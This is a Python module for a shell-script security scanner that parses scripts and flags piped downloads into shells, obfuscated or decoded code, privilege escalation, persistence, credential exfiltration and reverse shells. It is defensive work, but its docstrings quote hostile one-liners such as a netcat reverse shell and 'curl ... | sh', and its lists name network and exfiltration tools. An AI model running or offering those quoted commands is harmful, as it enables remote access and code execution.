"""The shell scanner: reads a script the way a shell would, with the project's shell parser.

Text is cut into logical lines (continuations, open quotes, open substitutions and
here-documents kept together) so that a finding names the line a command starts on. Each
line is parsed (:mod:`habakkuk.tools.shell_syntax`) after the variables and aliases the
script set earlier are put in (``c=curl; $c ... | sh`` reads as ``curl ... | sh``), then:

* :func:`habakkuk.tools.hardline.check_hardline` judges it first: piped downloads into a
  shell, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, recursive deletion of the home or
  system folders, fork bombs (all dangerous);
* every simple command is walked, substitutions, ``sh -c`` texts, ``eval`` and
  here-documents included, for what the blocklist does not cover: decoded data (base64,
  xxd, openssl, rev, tr...) or generated/obfuscated text run by a shell or an interpreter,
  downloads saved then made executable or run, privilege escalation, writes outside the
  folder, crontab/launchd persistence, password-protected archives, Gatekeeper bypasses,
  credential reads that meet a network send (exfiltration), reverse shells;
* code for another interpreter (``python -c``, ``perl -e``, a here-document fed to
  python) goes back through the dispatcher to that language's scanner.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

from habakkuk.knowledge.scan.context import Context
from habakkuk.knowledge.scan.paths import credential_kind, write_risk
from habakkuk.tools.hardline import check_hardline
from habakkuk.tools.shell_syntax import (
    SHELLS,
    Group,
    Pipeline,
    SimpleCommand,
    Word,
    basename,
    expand_words,
    invocation,
    is_assignment,
    is_interpreter,
    parse,
    resolve,
    shell_code,
    walk_simple_commands,
)
from habakkuk.tools.shell_syntax.parser import Element

__all__ = ["logical_lines", "scan_shell"]

# A logical line longer than this is cut (a script is lines, not one megabyte of text).
MAX_CHUNK = 64 * 1024
_OUTPUT_REDIRS = {">", ">>", ">|", "&>", "&>>", "<>"}

DOWNLOADERS = frozenset(
    [
        "curl",
        "wget",
        "fetch",
        "aria2c",
        "http",
        "https",
        "httpie",
        "xh",
        "lynx",
        "links",
        "elinks",
        "w3m",
        "ftp",
        "tftp",
        "lftp",
        "axel",
    ]
)
NETCATS = frozenset(["nc", "ncat", "netcat", "socat", "telnet", "cryptcat"])
COPY_OUT = frozenset(["scp", "sftp", "rsync", "rclone"])
MAILERS = frozenset(["mail", "mailx", "sendmail", "mutt", "msmtp"])
DNS_TOOLS = frozenset(["dig", "nslookup", "host", "drill"])
ESCALATORS = frozenset(["sudo", "doas", "pkexec", "run0", "su", "runuser"])
PACKAGE_MANAGERS = frozenset(
    [
        "apt",
        "apt-get",
        "aptitude",
        "dnf",
        "yum",
        "zypper",
        "pacman",
        "apk",
        "brew",
        "port",
        "snap",
        "flatpak",
        "emerge",
        "pkg",
        "systemctl",
        "service",
    ]
)
PYTHONS = re.compile(r"(?:python|pypy)[\d.]*")
_LANG_OF = [
    (PYTHONS, "python"),
    (re.compile(r"perl[\d.]*"), "perl"),
    (re.compile(r"ruby[\d.]*|jruby|irb"), "ruby"),
    (re.compile(r"node(?:js)?|bun|deno"), "js"),
    (re.compile(r"pwsh|powershell(?:\.exe)?"), "powershell"),
    (re.compile(r"osascript"), "applescript"),
    (re.compile(r"php[\d.]*"), "php"),
    (re.compile(r"lua[\d.]*|luajit"), "lua"),
]
_ESCAPES = re.compile(r"\\(?:x[0-9A-Fa-f]{2}|[0-7]{3}|0[0-7]{1,3}|u[0-9A-Fa-f]{4})")
_VAR_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)")
_HEREDOC = re.compile(r"<<-?\s*(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\1")
_REMOTE_SPEC = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)")
_DEV_NET = re.compile(r"/dev/(?:tcp|udp)/")
# nc -e PROG / -c CMD (also clustered, -nve), ncat --exec / --sh-exec / --lua-exec.
_NC_EXEC = re.compile(r"-[a-zA-Z]*[ec]|--(?:sh-|lua-)?exec(?:=.*)?")
_SOCAT_PROGRAM = re.compile(r"(?:^|[!,])(?:exec|system)[:=]", re.I)
_EXEC_MODE = re.compile(
    r"^(?:[ugoa]*[+=][rwxXst]*x[rwxXst]*(?:,.*)?|\+x|[0-7]*[1357][0-7]?[0-7]?)$"
)


# ---------------------------------------------------------------------------
# Logical lines.
# ---------------------------------------------------------------------------


def logical_lines(text: str) -> Iterator[tuple[int, str]]:
    """(0-based line offset, text) of each logical line: a command with its continuations,
    its open quotes and substitutions, and its here-document bodies."""
    lines = text.split("\n")
    i = 0
    n = len(lines)
    while i < n:
        start = i
        chunk: list[str] = []
        size = 0
        quote = ""
        depth = 0
        heredocs: list[str] = []
        while i < n:
            line = lines[i]
            i += 1
            chunk.append(line)
            size += len(line) + 1
            if heredocs:
                if line.strip() == heredocs[0]:
                    heredocs.pop(0)
                if (heredocs or quote or depth > 0) and size < MAX_CHUNK:
                    continue
                break
            quote, depth, continued = _line_state(line, quote, depth)
            if not quote:
                heredocs = [m.group(2) for m in _HEREDOC.finditer(line)]
            if (quote or depth > 0 or continued or heredocs) and size < MAX_CHUNK:
                continue
            break
        yield start, "\n".join(chunk)


def _line_state(line: str, quote: str, depth: int) -> tuple[str, int, bool]:
    """The quote still open, the ( depth and whether the line continues (trailing \\)."""
    k = 0
    n = len(line)
    while k < n:
        c = line[k]
        if quote == "'":
            if c == "'":
                quote = ""
        elif c == "\\":
            if k == n - 1:
                return quote, depth, True
            k += 1
        elif quote == '"':
            if c == '"':
                quote = ""
        elif c in "'\"":
            quote = c
        elif c == "#" and (k == 0 or line[k - 1] in " \t;&|("):
            break
        elif c == "(":
            depth += 1
        elif c == ")":
            depth = max(0, depth - 1)
        k += 1
    return quote, depth, False


# ---------------------------------------------------------------------------
# The scan.
# ---------------------------------------------------------------------------


@dataclass
class _State:
    """What a script has done so far (variables, downloads) and what it touched."""

    vars: dict[str, str] = field(default_factory=dict)
    aliases: dict[str, str] = field(default_factory=dict)
    fetched: set[str] = field(default_factory=set)  # basenames of downloaded/decoded files
    strong_creds: list[tuple[int, str]] = field(default_factory=list)
    network: list[tuple[int, str]] = field(default_factory=list)


def scan_shell(ctx: Context, text: str, line: int = 1, depth: int = 0) -> None:
    """Scan shell text whose first line is `line` of ctx's file."""
    state = _State()
    for offset, chunk in logical_lines(text):
        if chunk.strip():
            _Chunk(ctx, state, line + offset, depth).run(chunk)
    if state.strong_creds:
        cred_line, what = state.strong_creds[0]
        if state.network:
            net_line, how = state.network[0]
            ctx.add(
                "dangerous",
                "exfiltration",
                net_line,
                f"reads credentials ({what}, line {cred_line}) and sends over the network ({how})",
            )
        else:
            ctx.add("caution", "reads-credentials", cred_line, f"reads credentials: {what}")


def _hardline_rule(reason: str) -> str:
    if "download" in reason:
        return "remote-code"
    if "fork bomb" in reason:
        return "fork-bomb"
    return "destructive-command"


class _Chunk:
    """One logical line's walk."""

    def __init__(self, ctx: Context, state: _State, line: int, depth: int) -> None:
        self.ctx = ctx
        self.state = state
        self.line = line
        self.depth = depth
        self.weak_creds: list[str] = []
        self.sends: list[str] = []
        # Groups nest: each element's output is judged once, not once per enclosing level.
        self._kinds: dict[int, tuple[set[str], str | None]] = {}
        self._reads: dict[int, bool] = {}

    def add(self, severity: str, rule: str, message: str) -> None:
        self.ctx.add(
            "dangerous" if severity == "dangerous" else "caution", rule, self.line, message
        )

    def run(self, chunk: str) -> None:
        text = self.substitute(chunk)
        for candidate in dict.fromkeys((chunk, text)):
            reason = check_hardline(candidate)
            if reason:
                self.add("dangerous", _hardline_rule(reason), reason.removesuffix(" is blocked"))
        pipelines = parse(text)
        self.walk(pipelines, self.depth)
        self.remember(pipelines)
        if self.weak_creds and self.sends:
            self.add(
                "dangerous",
                "exfiltration",
                f"sends {self.weak_creds[0]} over the network ({self.sends[0]})",
            )

    # -- variables and aliases ------------------------------------------------

    def substitute(self, text: str) -> str:
        """Put in the variables and aliases set earlier in the script."""
        st = self.state
        if not st.vars and not st.aliases:
            return text
        for _ in range(3):
            before = text
            if st.vars:
                text = _VAR_REF.sub(
                    lambda m: st.vars.get(m.group(1) or m.group(2), m.group(0)), text
                )
            for name, value in st.aliases.items():
                text = re.sub(
                    rf"(^|[|;&(]\s*|\n\s*)\b{re.escape(name)}(?=\s|$)", rf"\g<1>{value}", text
                )
            if text == before or len(text) > MAX_CHUNK:
                break
        return text

    def remember(self, pipelines: list[Pipeline]) -> None:
        for simple in walk_simple_commands(pipelines):
            words = simple.words
            if not words:
                continue
            head = basename(words[0].value)
            if head == "alias":
                for w in words[1:]:
                    if "=" in w.value:
                        name, value = w.value.split("=", 1)
                        self.state.aliases[name] = value
                continue
            if head in ("export", "local", "declare", "typeset", "readonly"):
                words = [w for w in words[1:] if not w.value.startswith("-")]
            elif not all(is_assignment(w) for w in words):
                continue
            for w in words:
                if is_assignment(w):
                    name, value = w.value.split("=", 1)
                    self.state.vars[name.rstrip("+").split("[", 1)[0]] = value

    # -- the walk ---------------------------------------------------------------

    def walk(self, pipelines: list[Pipeline], depth: int) -> None:
        if depth > 12:
            return
        for pipeline in pipelines:
            upstream: set[str] = set()
            printed: list[str] = []
            for element in pipeline.commands:
                if isinstance(element, Group):
                    if upstream and self.group_reads_stdin(element):
                        self.fed_program("sh", upstream, printed, depth)
                    self.walk(element.body, depth + 1)
                else:
                    self.simple(element, depth, upstream, printed)
                kinds, text = self.output_kinds(element, depth)
                upstream |= kinds
                if text is not None:
                    printed.append(text)
            if len(pipeline.commands) > 1:
                self.piped_shell(pipeline)

    def piped_shell(self, pipeline: Pipeline) -> None:
        """A shell with no command piped to or from a network tool: a reverse shell
        (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `nc H P | sh | nc H Q`)."""
        names = {
            basename(word.value)
            for element in pipeline.commands
            if not isinstance(element, Group)
            for word in element.words
        }
        if not names & (NETCATS | {"openssl"}) or not names & SHELLS:
            return
        net = shell = ""
        for element in pipeline.commands:
            if isinstance(element, Group):
                continue
            resolved = resolve(expand_words(element.words))
            if resolved is None or not resolved.argv:
                continue
            argv = resolved.argv
            name = basename(argv[0].value)
            args = [w.value for w in argv[1:]]
            if name in NETCATS or (name == "openssl" and "s_client" in args):
                net = net or name
            elif name in SHELLS:
                inv = invocation(argv)
                if inv is not None and inv.code is None and inv.script is None:
                    shell = shell or name
        if net and shell:
            self.add("dangerous", "reverse-shell", f"pipes a shell ({shell}) to and from {net}")

    def group_reads_stdin(self, group: Group) -> bool:
        key = id(group)
        if key not in self._reads:
            self._reads[key] = self._group_reads_stdin(group)
        return self._reads[key]

    def _group_reads_stdin(self, group: Group) -> bool:
        for simple in walk_simple_commands(group.body):
            resolved = resolve(expand_words(simple.words))
            if resolved and resolved.argv:
                name = basename(resolved.argv[0].value)
                inv = invocation(resolved.argv) if is_interpreter(name) else None
                if inv is not None and inv.reads_stdin and name != "eval":
                    return True
        return False

    def text_kinds(self, text: str, depth: int) -> set[str]:
        """What running `text` (a substitution's body) produces: download, decode..."""
        kinds: set[str] = set()
        if depth > 12:
            return kinds
        for pipeline in parse(text):
            for element in pipeline.commands:
                kinds |= self.output_kinds(element, depth + 1)[0]
        return kinds

    def output_kinds(self, element: Element, depth: int) -> tuple[set[str], str | None]:
        """What an element writes to stdout, and the text when it is echo/printf of a literal."""
        key = id(element)
        if key not in self._kinds:
            self._kinds[key] = self._output_kinds(element, depth)
        return self._kinds[key]

    def _output_kinds(self, element: Element, depth: int) -> tuple[set[str], str | None]:
        if isinstance(element, Group):
            kinds: set[str] = set()
            for pipeline in element.body:
                for e in pipeline.commands:
                    kinds |= self.output_kinds(e, depth + 1)[0]
            return kinds, None
        kinds = set()
        for w in element.words:
            for inner in w.inner_texts():
                kinds |= self.text_kinds(inner, depth) & {"download", "decode", "generated"}
        for r in element.redirects:
            if r.target is not None and _DEV_NET.search(r.target.value) and r.op in ("<", "<>"):
                kinds.add("download")
            if r.target is not None:
                for inner in r.target.inner_texts():
                    kinds |= self.text_kinds(inner, depth) & {"download", "decode"}
        resolved = resolve(expand_words(element.words))
        if resolved is None or not resolved.argv:
            return kinds, None
        argv = resolved.argv
        first = argv[0]
        name = basename(first.value)
        args = [w.value for w in argv[1:]]
        if "$" in first.value or "`" in first.value or first.subs:
            kinds.add("dynamic")
        if name in DOWNLOADERS or name in NETCATS or (name == "openssl" and "s_client" in args):
            kinds.add("download")
        if _is_decoder(name, args):
            kinds.add("decode")
        lang = _interpreter_lang(name)
        if lang is not None and lang != "shell":
            inv = invocation(argv)
            if inv is not None and inv.code is not None:
                kinds.add("generated")
        if name in ("echo", "printf"):
            raw = " ".join(a for a in args if not re.fullmatch(r"-[neE]+", a))
            if _ESCAPES.search(raw) and (name == "printf" or "-e" in args or "-ne" in args):
                kinds.add("escaped")
            return kinds, raw
        if name == "cat" and not args:
            for r in element.redirects:
                if r.heredoc:
                    return kinds, r.heredoc
        if name in ("cat", "head", "tail", "less", "more"):
            kinds.add("file")
        elif not kinds:
            kinds.add("other")
        return kinds, None

    def simple(
        self, cmd: SimpleCommand, depth: int, upstream: set[str], printed: list[str]
    ) -> None:
        words = expand_words(cmd.words)
        for w in words:
            for inner in w.inner_texts():
                self.walk(parse(inner), depth + 1)
        for r in cmd.redirects:
            if r.target is None:
                continue
            for inner in r.target.inner_texts():
                self.walk(parse(inner), depth + 1)
            target = r.target.value
            if _DEV_NET.search(target):
                self.sends.append("/dev/tcp")
                self.state.network.append((self.line, "/dev/tcp"))
                if r.op in _OUTPUT_REDIRS or r.op == ">&":
                    self.add("dangerous", "reverse-shell", f"connects a shell to {target}")
            elif r.op in _OUTPUT_REDIRS:
                self.write(target)
            elif r.op == "<":
                self.read(target)
        head = next((w for w in words if not is_assignment(w)), None)
        if head is None:
            self.assignments(words)
            return
        resolved = resolve(words)
        argv = resolved.argv if resolved else []
        if resolved:
            for code in resolved.extra_code:
                self.ctx.scan("shell", code, self.line, depth + 1)
        head_name = basename(head.value)
        if head_name in ESCALATORS:
            self.escalation(head_name, argv)
        if head_name in ("env", "printenv") and (
            not argv or (len(argv) == 1 and basename(argv[0].value) == "printenv")
        ):
            self.weak_creds.append("the environment (env)")
        if not argv:
            return
        self.command(cmd, argv, depth, upstream, printed)

    def assignments(self, words: list[Word]) -> None:
        for w in words:
            name = w.value.split("=", 1)[0]
            if name in ("HISTFILE", "HISTSIZE", "HISTFILESIZE") and w.value.split("=", 1)[1] in (
                "",
                "0",
                "/dev/null",
            ):
                self.add("caution", "hides-activity", "turns shell history off")

    def escalation(self, head: str, argv: list[Word]) -> None:
        target = basename(argv[0].value) if argv else "a root shell"
        if target in PACKAGE_MANAGERS:
            self.add("caution", "sudo-package-manager", f"runs {target} as root with {head}")
        else:
            self.add("dangerous", "privilege-escalation", f"runs {target} as root with {head}")

    # -- one command ------------------------------------------------------------

    def command(
        self,
        cmd: SimpleCommand,
        argv: list[Word],
        depth: int,
        upstream: set[str],
        printed: list[str],
    ) -> None:
        first = argv[0]
        name = basename(first.value)
        args = [w.value for w in argv[1:]]
        if first.subs:
            kinds = set().union(*(self.text_kinds(s, depth) for s in first.subs))
            if kinds & {"decode", "escaped", "generated", "download"}:
                self.add(
                    "dangerous",
                    "obfuscated-command",
                    "runs a command whose name is decoded at run time",
                )
        if basename(first.value) in self.state.fetched and "/" in first.value:
            self.add(
                "dangerous",
                "download-and-run",
                f"runs {first.value}, a file it downloaded or decoded",
            )
        lang = _interpreter_lang(name)
        if lang is not None or name in ("eval", "source", ".", "su", "runuser"):
            self.code_runner(cmd, argv, name, lang or "shell", depth, upstream, printed)
        self.credentials(name, argv)
        self.network(name, argv, cmd)
        if name in ("tee",):
            for a in args:
                if not a.startswith("-"):
                    self.write(a)
        elif (
            name in ("cp", "mv", "install", "ln", "rsync")
            and len(ops := [a for a in args if not a.startswith("-")]) >= 2
        ):
            self.write(ops[-1])
        elif name == "dd":
            for a in args:
                if a.startswith("of="):
                    self.write(a[3:])
        elif name == "sed" and any(a.startswith("-i") or a == "--in-place" for a in args):
            for a in args[1:]:
                if not a.startswith("-"):
                    self.write(a, only_dangerous=True)
        elif name == "chmod":
            modes = [a for a in args if not a.startswith("-") or re.fullmatch(r"-[rwxXst]+", a)]
            if modes and _EXEC_MODE.match(
                modes[0].lstrip("-") if modes[0].startswith("-") else modes[0]
            ):
                for target in modes[1:]:
                    if basename(target) in self.state.fetched:
                        self.add(
                            "dangerous",
                            "download-and-run",
                            f"makes {target}, a file it downloaded, executable",
                        )
            if any(re.fullmatch(r"[ugo]*\+[rwx]*s[rwx]*|[2467][0-7]{3}", m) for m in modes[:1]):
                self.add("dangerous", "privilege-escalation", "sets the setuid/setgid bit")
        elif name == "crontab":
            if "-l" in args and not [
                a for a in args if a not in ("-l", "-u") and not a.startswith("-")
            ]:
                pass
            elif "-e" in args:
                self.add("caution", "persistence", "edits the crontab")
            elif "-r" not in args:
                self.add("dangerous", "persistence", "installs a crontab (runs on a schedule)")
        elif name == "launchctl" and args and args[0] in ("load", "bootstrap", "submit", "enable"):
            self.add("dangerous", "persistence", "loads a launchd job (runs at login)")
        elif name == "systemctl" and "enable" in args:
            self.add("caution", "persistence", "enables a service at boot")
        elif name in ("at", "batch"):
            self.add("caution", "persistence", f"schedules a command with {name}")
        elif name == "xattr" and any(a in ("-c", "-cr", "-rc") or "quarantine" in a for a in args):
            self.add("dangerous", "quarantine-bypass", "removes macOS's quarantine from a download")
        elif name == "spctl" and any("disable" in a for a in args):
            self.add("dangerous", "quarantine-bypass", "turns macOS Gatekeeper off")
        elif (name == "history" and "-c" in args) or (name == "unset" and "HISTFILE" in args):
            self.add("caution", "hides-activity", "clears or turns off shell history")
        elif (
            name == "security"
            and args
            and re.match(r"(?:find-\w+-password|dump-keychain|export)$", args[0])
        ):
            self.state.strong_creds.append((self.line, f"the keychain (security {args[0]})"))
        self.archives(name, args)
        self.fetches(name, argv, cmd)

    def code_runner(
        self,
        cmd: SimpleCommand,
        argv: list[Word],
        name: str,
        lang: str,
        depth: int,
        upstream: set[str],
        printed: list[str],
    ) -> None:
        inv = invocation(argv)
        code = shell_code(argv)
        if inv is None:
            return
        if inv.code is not None or code is not None:
            word = inv.code if inv.code is not None else code
            assert word is not None
            self.program_word(word, name, lang, depth)
        if inv.script is not None:
            if inv.script.procs:
                self.judge(
                    name, set().union(*(self.text_kinds(p, depth) for p in inv.script.procs))
                )
            elif basename(inv.script.value) in self.state.fetched:
                self.add(
                    "dangerous",
                    "download-and-run",
                    f"runs {inv.script.value}, a file it downloaded or decoded, with {name}",
                )
        if not inv.reads_stdin:
            return
        redirected = False
        for r in cmd.redirects:
            if r.op in ("<<", "<<-") and r.heredoc:
                redirected = True
                self.ctx.scan(lang, r.heredoc, self.line + 1, depth + 1)
            elif r.op == "<<<" and r.target is not None:
                redirected = True
                if r.target.subs:
                    self.judge(
                        name, set().union(*(self.text_kinds(s, depth) for s in r.target.subs))
                    )
                else:
                    self.ctx.nested(self.line).scan(lang, r.target.value, self.line, depth + 1)
            elif r.op == "<" and r.target is not None:
                redirected = True
                if r.target.procs:
                    self.judge(
                        name, set().union(*(self.text_kinds(p, depth) for p in r.target.procs))
                    )
                elif basename(r.target.value) in self.state.fetched:
                    self.add(
                        "dangerous",
                        "download-and-run",
                        f"feeds {r.target.value}, a download, to {name}",
                    )
        if not redirected and upstream:
            self.fed_program(name, upstream, printed, depth, lang)

    def program_word(self, word: Word, name: str, lang: str, depth: int) -> None:
        """The program text a runner is given (sh -c TEXT, eval TEXT, python -c TEXT)."""
        if word.subs or word.procs:
            kinds = set().union(*(self.text_kinds(s, depth) for s in word.inner_texts()))
            self.judge(name, kinds)
            if (
                not kinds & {"download", "decode", "generated", "escaped", "dynamic"}
                and name == "eval"
            ):
                self.add("caution", "eval", "evaluates text produced at run time")
        elif name == "eval" and re.fullmatch(r"\s*\$\{?\w+\}?\s*", word.value):
            self.add("caution", "eval", f"evaluates the variable {word.value.strip()}")
        elif re.fullmatch(r"\s*\"?\$\{?\w+\}?\"?\s*", word.value) and name in SHELLS:
            self.add("caution", "eval", f"runs the variable {word.value.strip()} as code")
        if lang == "shell":
            self.walk(parse(word.value), depth + 1)
        else:
            self.ctx.nested(self.line).scan(lang, word.value, self.line, depth + 1)

    def judge(self, name: str, kinds: set[str]) -> None:
        """A runner whose program comes from a command's output."""
        if "download" in kinds:
            self.add("dangerous", "remote-code", f"runs downloaded code with {name}")
        if "decode" in kinds:
            self.add("dangerous", "decoded-code", f"runs decoded (hidden) code with {name}")
        if kinds & {"generated", "escaped", "dynamic"}:
            self.add("dangerous", "obfuscated-code", f"runs code generated at run time with {name}")

    def fed_program(
        self, name: str, upstream: set[str], printed: list[str], depth: int, lang: str = "shell"
    ) -> None:
        """A runner reading its program from a pipe."""
        self.judge(name, upstream)
        if upstream & {"file", "other"} and not upstream & {"download", "decode"}:
            self.add("caution", "pipe-to-shell", f"pipes text into {name} to run it")
        for text in printed:
            decoded = _unescape(text)
            if lang == "shell":
                self.walk(parse(decoded), depth + 1)
            else:
                self.ctx.nested(self.line).scan(lang, decoded, self.line, depth + 1)

    # -- effects ------------------------------------------------------------------

    def write(self, target: str, *, only_dangerous: bool = False) -> None:
        risk = write_risk(target)
        if risk is None:
            return
        severity, message = risk
        if only_dangerous and severity != "dangerous":
            return
        rule = (
            "persistence"
            if severity == "dangerous" and _is_persistence(target)
            else "writes-outside"
        )
        self.add(severity, rule, message)

    def read(self, path: str) -> None:
        kind = credential_kind(path)
        if kind == "strong":
            self.state.strong_creds.append((self.line, path))
        elif kind == "weak":
            self.weak_creds.append(path)

    def credentials(self, name: str, argv: list[Word]) -> None:
        if name in (
            "echo",
            "printf",
            "mkdir",
            "touch",
            "rm",
            "ls",
            "test",
            "[",
            "chmod",
            "chown",
            "cd",
        ):
            return
        values = [w.value for w in argv[1:]]
        if name in ("cp", "mv", "install", "ln") and len(values) >= 2:
            values = values[:-1]
        for v in values:
            self.read(v.split("@", 1)[1] if v.startswith(("@", "-d@", "file=@")) else v)
        if (name == "set" and not values) or (name == "export" and values == ["-p"]):
            self.weak_creds.append("the environment (set)")
        if name in ("compgen",) and "-e" in values:
            self.weak_creds.append("the environment")

    def network(self, name: str, argv: list[Word], cmd: SimpleCommand) -> None:
        args = [w.value for w in argv[1:]]
        how = ""
        send = False
        if name in DOWNLOADERS:
            how = name
            send = (
                any(
                    re.match(
                        r"-(?:d|F|T)$|--data|--form|--upload-file|--post-|--json|-[a-zA-Z]*[dFT]$",
                        a,
                    )
                    for a in args
                )
                or any(("$" in a or "`" in a) and "://" in a for a in args)
                or any(w.subs for w in argv[1:])
            )
        elif name in NETCATS:
            how, send = name, True
            if any(_NC_EXEC.fullmatch(a) for a in args) or (
                name == "socat" and _socat_runs_program(args)
            ):
                self.add(
                    "dangerous", "reverse-shell", f"hands a program to a remote host with {name}"
                )
        elif name in COPY_OUT and any(_REMOTE_SPEC.match(a) for a in args):
            how, send = f"{name} to a remote host", True
        elif name in MAILERS:
            how, send = name, True
        elif name == "ssh":
            how = "ssh"
        elif name in DNS_TOOLS and any(w.subs or "$" in w.value for w in argv[1:]):
            how, send = f"{name} with data in the name (DNS exfiltration)", True
        if not how:
            return
        self.state.network.append((self.line, how))
        if send:
            self.sends.append(how)

    def archives(self, name: str, args: list[str]) -> None:
        protected = False
        if name in ("unzip", "funzip", "zip"):
            protected = any(a == "-P" or a.startswith("--password") for a in args)
        elif name in ("7z", "7za", "7zr", "7zz") or name in ("unrar", "rar"):
            protected = any(a.startswith("-p") and a != "-p-" for a in args)
        elif name in ("bsdtar", "tar") and any(a.startswith("--passphrase") for a in args):
            protected = True
        if protected:
            self.add(
                "dangerous",
                "password-archive",
                f"opens a password-protected archive with {name} (hides its content from scans)",
            )

    def fetches(self, name: str, argv: list[Word], cmd: SimpleCommand) -> None:
        """Remember the files a download or a decode writes."""
        args = [w.value for w in argv[1:]]
        produces = name in DOWNLOADERS or _is_decoder(name, args)
        if not produces:
            return
        out: list[str] = []
        for k, a in enumerate(args):
            nxt = args[k + 1] if k + 1 < len(args) else ""
            if (
                a in ("-o", "-O", "--output", "--output-document", "-out")
                and nxt
                and not (name == "curl" and a == "-O")
            ) or (re.fullmatch(r"-[a-zA-Z]*o", a) and name in ("curl", "base64") and nxt):
                out.append(nxt)
            elif a.startswith(("--output=", "--output-document=")):
                out.append(a.split("=", 1)[1])
            elif "://" in a and (
                name == "wget"
                or (
                    name == "curl"
                    and any(re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*|--remote-name", b) for b in args)
                )
            ):
                out.append(a.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1])
        if name == "xxd" and args and not args[-1].startswith("-"):
            out.append(args[-1])
        for r in cmd.redirects:
            if r.op in _OUTPUT_REDIRS and r.target is not None:
                out.append(r.target.value)
        for path in out:
            if path and path != "-":
                self.state.fetched.add(basename(path))


def _socat_runs_program(args: list[str]) -> bool:
    """socat with an EXEC:/SYSTEM: address (a program whose stdio is the other side)."""
    return any(_SOCAT_PROGRAM.search(a) for a in args)


def _is_persistence(target: str) -> bool:
    return bool(
        re.search(
            r"rc$|profile|LaunchAgents|LaunchDaemons|cron|autostart|systemd|authorized_keys"
            r"|zshenv|zlogin|environment\.d|rc\.local",
            target,
        )
    )


def _is_decoder(name: str, args: list[str]) -> bool:
    """Whether the command decodes or unpacks data (base64 -d, xxd -r, openssl -d, rev...)."""
    if name in ("base64", "base32", "basenc", "gbase64"):
        return any(
            a in ("-d", "-D", "--decode") or re.fullmatch(r"-[a-zA-Z]*[dD][a-zA-Z]*", a)
            for a in args
        )
    if name == "xxd":
        return any(re.fullmatch(r"-[a-z]*r[a-z]*", a) for a in args)
    if name == "openssl":
        return "-d" in args  # openssl enc -d, openssl base64 -d
    if name in ("uudecode", "rev", "zcat", "gunzip", "bunzip2", "unxz", "xzcat", "bzcat", "lzcat",
                "zstdcat", "unzstd"):  # fmt: skip
        return True
    if name in ("gzip", "bzip2", "xz", "zstd", "lzma"):
        return any(a in ("-d", "--decompress") or re.fullmatch(r"-[a-z]*d[a-z]*", a) for a in args)
    # tr: rot13 and friends; as a pipe into a shell, only ever obfuscation.
    return name == "tr"


def _interpreter_lang(name: str) -> str | None:
    if name in SHELLS:
        return "shell"
    for pattern, lang in _LANG_OF:
        if pattern.fullmatch(name):
            return lang
    return None


def _unescape(text: str) -> str:
    """echo -e / printf escapes decoded (\\xNN, \\NNN, \\uNNNN, \\n)."""
    if "\\" not in text:
        return text

    def one(m: re.Match[str]) -> str:
        s = m.group(0)
        if s[1] == "x":
            return chr(int(s[2:], 16))
        if s[1] == "u":
            return chr(int(s[2:], 16))
        return chr(int(s[1:], 8) % 256)

    return _ESCAPES.sub(one, text).replace("\\n", "\n").replace("\\t", "\t")
